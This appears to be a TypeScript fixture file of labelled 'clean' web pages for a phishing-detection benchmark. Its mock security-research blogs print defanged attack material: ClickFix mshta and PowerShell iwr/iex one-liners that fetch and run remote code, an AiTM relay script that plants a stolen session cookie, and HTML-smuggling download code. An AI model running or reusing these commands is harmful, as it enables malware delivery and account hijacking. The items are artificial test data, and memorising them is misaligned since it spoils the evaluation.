import type { Entry } from '../entry.js';
import { zip, pe, cfb, fileRoute } from '../parts/e-bin.js';
import { doc, esc, wordmark, jsRoute, jsonRoute, imgRoute, htmlRoute, gtag, gtagStub } from '../parts/zh-kit.js';

const ART = `body{background:#fff}header{padding:16px 40px;border-bottom:1px solid #e5e5e5;display:flex;gap:24px;align-items:center}header a{color:#333;text-decoration:none;font-size:14px}article{max-width:760px;margin:30px auto;padding:0 20px;line-height:1.7;font-size:16px}pre{background:#0f172a;color:#e2e8f0;padding:14px;overflow:auto;font-size:13px;border-radius:6px}blockquote{border-left:4px solid #f59e0b;background:#fffbeb;margin:0;padding:10px 16px}footer{text-align:center;font-size:12px;color:#777;padding:30px;border-top:1px solid #eee}`;

export const entries: Entry[] = [
  {
  id: 'zh-clean-it-software-center',
  label: 'clean',
  kind: 'software-download',
  url: 'https://software.kestrelgroup.com/catalog/?category=approved',
  body: doc('Software Center – Kestrel IT', `<header style="background:#c8102e;color:#fff;padding:14px 30px;font-family:Arial"><b>Kestrel IT</b> · Software Center</header>
<main style="max-width:900px;margin:24px auto;font-family:Arial"><p>Approved software for Kestrel Group managed devices. Installers are signed by the vendor and scanned by IT. If you received an email asking you to install something not listed here, report it with the <b>Report Phish</b> button.</p>
<table style="width:100%;border-collapse:collapse;font-size:14px"><tr style="background:#f3f3f3"><th align="left">Application</th><th>Version</th><th>Package</th></tr>
<tr><td>GlobalProtect VPN</td><td>6.2.4</td><td><a href="/pkgs/GlobalProtect64-6.2.4.msi">MSI</a></td></tr>
<tr><td>Microsoft Teams (new)</td><td>24295</td><td><a href="/pkgs/MSTeams-x64.msix">MSIX</a></td></tr>
<tr><td>7-Zip</td><td>24.08</td><td><a href="/pkgs/7z2408-x64.exe">EXE</a></td></tr>
<tr><td>Adobe Acrobat Reader</td><td>24.004</td><td><a href="https://get.adobe.com/reader/enterprise/">Vendor site</a></td></tr></table>
<p style="font-size:12px;color:#777">Need something else? Open a request in ServiceNow → Software Request.</p></main>`),
  routes: {
    'software.kestrelgroup.com/pkgs/GlobalProtect64-6.2.4.msi': fileRoute(cfb(['GlobalProtect', 'Palo Alto Networks'], 16384), 'application/x-msi', 'GlobalProtect64-6.2.4.msi'),
    'software.kestrelgroup.com/pkgs/7z2408-x64.exe': fileRoute(pe({ x64: true, strings: ['7-Zip', 'Igor Pavlov'] }), 'application/x-msdownload', '7z2408-x64.exe'),
  },
},
  {
  id: 'zh-clean-adobe-reader-download',
  label: 'clean',
  kind: 'software-download',
  url: 'https://get.adobe.com/reader/?promoid=KSWLH&zh=1',
  body: doc('Adobe Acrobat Reader download', `<header style="padding:14px 32px;border-bottom:1px solid #eee;font-family:Arial">${wordmark('Adobe', '#eb1000', 20)} <span style="margin-left:20px">Acrobat Reader</span></header>
<main style="max-width:900px;margin:30px auto;font-family:Arial;display:flex;gap:40px"><div style="flex:2"><h1>Adobe Acrobat Reader</h1><p>View, sign, comment on, and share PDFs for free.</p><p>Your system: Windows 10/11, English</p>
<label><input type="checkbox"> Yes, install the Acrobat Reader Chrome Extension</label><br><br>
<a href="/reader/download/?installer=Reader_en_install.exe" style="background:#eb1000;color:#fff;padding:12px 26px;border-radius:20px;text-decoration:none">Download Acrobat Reader</a>
<p style="font-size:12px;color:#666">By clicking the "Download Acrobat Reader" button, you acknowledge that you have read and accepted all of the <a href="https://www.adobe.com/legal/terms.html">Terms and Conditions</a>.</p></div><div style="flex:1;font-size:13px;color:#555"><b>Do you have an older version?</b><p>Install the latest version to get security fixes.</p></div></main>`),
  routes: { 'get.adobe.com/reader/download/': fileRoute(pe({ strings: ['Adobe Acrobat Reader Installer', 'Adobe Inc.'] }), 'application/x-msdownload', 'Reader_en_install.exe') },
},
  {
  id: 'zh-clean-it-sicherheit-phishing-de',
  label: 'clean',
  kind: 'security-awareness',
  url: 'https://intranet.brenner-logistik.de/it/sicherheit/phishing-erkennen',
  body: doc('Phishing erkennen – IT-Sicherheit | Brenner Logistik Intranet', `<header><b>Brenner Intranet</b><a href="/it">IT-Service</a><a href="/hr">Personal</a></header>
<article><h1>Phishing-Mails erkennen und melden</h1><p>In den letzten Wochen erreichten uns vermehrt gefälschte Nachrichten. Beispiele:</p>
<blockquote>„Neue Sprachnachricht (1:12) – Bitte melden Sie sich mit Ihrem Microsoft-Konto an, um die Nachricht anzuhören.“</blockquote>
<blockquote>„Mitteilung über die Änderung unserer Bankverbindung – bitte überweisen Sie alle offenen Rechnungen ab sofort auf das folgende Konto…“</blockquote>
<blockquote>„Ihre Version von Microsoft Edge wird nicht mehr unterstützt. Jetzt aktualisieren.“</blockquote>
<h2>So erkennen Sie Phishing</h2><ul><li>Prüfen Sie die Adresszeile: Microsoft-Anmeldungen erfolgen nur über <code>login.microsoftonline.com</code>.</li><li>Änderungen von Bankverbindungen immer telefonisch über die bekannte Nummer verifizieren (Vier-Augen-Prinzip).</li><li>Software-Updates kommen ausschließlich über das Softwarecenter, nie per E-Mail-Link.</li></ul>
<p>Verdächtige Mails bitte mit dem Button „Phishing melden“ in Outlook weiterleiten. Bei Fragen: IT-Hotline 040 555 123-99.</p></article><footer>Brenner Logistik GmbH · Interne Informationen</footer>`, { lang: 'de', css: ART }),
},
  {
  id: 'zh-clean-blog-aitm-kit-teardown',
  label: 'clean',
  kind: 'security-research',
  url: 'https://research.ironveil-security.com/blog/2026/11/dissecting-an-aitm-kit-number-matching/',
  body: doc('Dissecting an AiTM phishing kit that defeats number matching | Ironveil Research', `<header><b>Ironveil Research</b><a href="/blog">Blog</a><a href="/threat-intel">Threat Intel</a><a href="/contact">Contact</a></header>
<article><h1>Dissecting an AiTM phishing kit that defeats number matching</h1><p><i>Nov 24, 2026 · 11 min read · Threat Research Team</i></p>
<p>We recently analysed a reverse-proxy-style kit delivered through voicemail lures. Unlike classic credential harvesters, it relays each step to the real identity provider in real time, including the Authenticator number-matching prompt.</p>
<h2>Stage 1: relay script</h2><pre>${esc(`function post(p,b){return fetch('/common/GetCredentialType?mkt=en-US',{
  method:'POST',headers:{'content-type':'application/json','x-relay-sid':sid,'x-relay-step':p},
  body:JSON.stringify(b)}).then(r=>r.json())}
// after the password step the operator's backend returns the real "entropy" value
$('num').textContent=j.entropy;
document.cookie='ESTSAUTH='+k.cookie+';path=/';`)}</pre>
<p>The kit fetches tenant branding (background illustration and logo) so the fake page matches the victim's organisation.</p>
<h2>Detection opportunities</h2><ul><li>Sign-ins whose <code>Referer</code> is not Microsoft infrastructure</li><li>Session cookies replayed from hosting-provider ASNs shortly after sign-in</li><li>Hostnames like <code>login.microsoftonline.com.&lt;random&gt;.info</code></li></ul>
<h2>IOCs</h2><pre>sso-sessn[.]info
hrcloud-notify[.]com
unifiedcomms-cloud[.]com</pre></article><footer>© 2026 Ironveil Security, Inc.</footer>`, { css: ART }),
},
  {
  id: 'zh-clean-blog-clickfix-analysis',
  label: 'clean',
  kind: 'security-research',
  url: 'https://www.sentrylabs-intel.io/posts/clickfix-fake-captcha-campaigns-q4',
  body: doc('ClickFix in Q4: fake CAPTCHAs, Teams audio errors and DocuSign font fixes', `<header><b>SentryLabs Intel</b><a href="/posts">Posts</a><a href="/reports">Reports</a></header>
<article><h1>ClickFix in Q4: fake CAPTCHAs, Teams audio errors and DocuSign "font fixes"</h1>
<p>ClickFix pages trick users into running commands themselves. The page copies a command to the clipboard and instructs the visitor to press <kbd>Win</kbd>+<kbd>R</kbd>, <kbd>Ctrl</kbd>+<kbd>V</kbd>, <kbd>Enter</kbd>.</p>
<p>A typical clipboard payload we observed (defanged):</p>
<pre>${esc(`mshta hxxps://secure-portal.docshare-verify[.]com/s/verify.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 482913''`)}</pre>
<p>The trailing comment pushes the real command out of view in the Run dialog. Another variant:</p>
<pre>${esc(`powershell -nop -w 1 -c "$r=(iwr esign-view.agreement-hub[.]net/fonts/dsfont.txt -UseB).Content;iex $r"`)}</pre>
<h2>Mitigations</h2><ul><li>Disable the Run dialog via GPO for standard users where feasible</li><li>Alert on <code>mshta.exe</code> or <code>powershell.exe</code> spawned by <code>explorer.exe</code> with URL arguments</li><li>Train users: a CAPTCHA never asks you to run anything</li></ul>
<p>Demo of the clipboard trick (harmless):</p><button onclick="navigator.clipboard.writeText('echo This is a harmless demo')">Copy harmless demo text</button></article><footer>© 2026 SentryLabs · Responsible disclosure</footer>`, { css: ART }),
},
  {
  id: 'zh-clean-blog-html-smuggling-es',
  label: 'clean',
  kind: 'security-research',
  url: 'https://blog.cerberia-ciber.es/analisis/html-smuggling-facturas-falsas',
  body: doc('Análisis: HTML smuggling en campañas de facturas falsas | Cerberia', `<header><b>Cerberia Ciberseguridad</b><a href="/analisis">Análisis</a><a href="/servicios">Servicios</a></header>
<article><h1>Análisis: HTML smuggling en campañas de facturas falsas</h1><p>Los atacantes adjuntan un archivo HTML que, al abrirse, reconstruye un ZIP en el navegador y fuerza su descarga, evitando los filtros de adjuntos del correo.</p>
<pre>${esc(`var d="UEsDBBQAAQAAA...";            // ZIP cifrado en base64
function s2b(b){var r=atob(b),a=new Uint8Array(r.length);
  for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}
var bl=new Blob([s2b(d)],{type:'application/octet-stream'});
var a=document.createElement('a');a.href=URL.createObjectURL(bl);
a.download='INV_7723.zip';a.click();`)}</pre>
<p>El ZIP contiene un <code>.js</code> que descarga una DLL y la ejecuta con <code>rundll32</code>.</p>
<h2>Recomendaciones</h2><ul><li>Bloquear adjuntos <code>.html</code>/<code>.htm</code> de remitentes externos.</li><li>Asociar <code>.js</code>, <code>.vbs</code> y <code>.hta</code> al Bloc de notas.</li></ul></article><footer>© 2026 Cerberia Ciberseguridad S.L. · Madrid</footer>`, { lang: 'es', css: ART }),
},
  {
  id: 'zh-clean-bot-check-bank-de',
  label: 'clean',
  kind: 'bot-interstitial',
  url: 'https://www.hanse-genossenschaftsbank.de/privatkunden/konto?cid=nl-2611',
  body: doc('Einen Moment bitte…', `<div style="max-width:560px;margin:100px auto;font-family:Arial;text-align:center"><img src="/static/logo-hgb.png" alt="Hanse Genossenschaftsbank" width="180" height="46">
<h2 style="font-weight:400">Einen Moment bitte…</h2><p>Wir prüfen Ihre Verbindung, um unsere Kunden vor automatisierten Zugriffen zu schützen.</p>
<div style="width:40px;height:40px;margin:20px auto;border:4px solid #ddd;border-top-color:#005aa0;border-radius:50%;animation:r 1s linear infinite"></div>
<p style="font-size:12px;color:#888">Referenz: 7f3c-21a9 · Sie werden automatisch weitergeleitet. Wir fragen Sie niemals per E-Mail nach PIN oder TAN.</p></div>
<style>@keyframes r{to{transform:rotate(360deg)}}</style>
<script>setTimeout(function(){location.replace('/privatkunden/konto/uebersicht')},3000)</script>`, { lang: 'de' }),
  routes: {
    'www.hanse-genossenschaftsbank.de/static/logo-hgb.png': imgRoute(0, 90, 160),
    'www.hanse-genossenschaftsbank.de/privatkunden/konto/uebersicht': htmlRoute(doc('Girokonto – Hanse Genossenschaftsbank', `<header style="padding:16px 30px;border-bottom:1px solid #ddd;font-family:Arial"><b>Hanse Genossenschaftsbank</b> · Privatkunden · Firmenkunden · <a href="/login">Online-Banking</a></header><main style="max-width:900px;margin:20px auto;font-family:Arial"><h1>Das Girokonto für Ihren Alltag</h1><p>Kostenlose girocard, Online-Banking und persönliche Beratung in Ihrer Filiale.</p></main>`, { lang: 'de' })),
  },
},
];
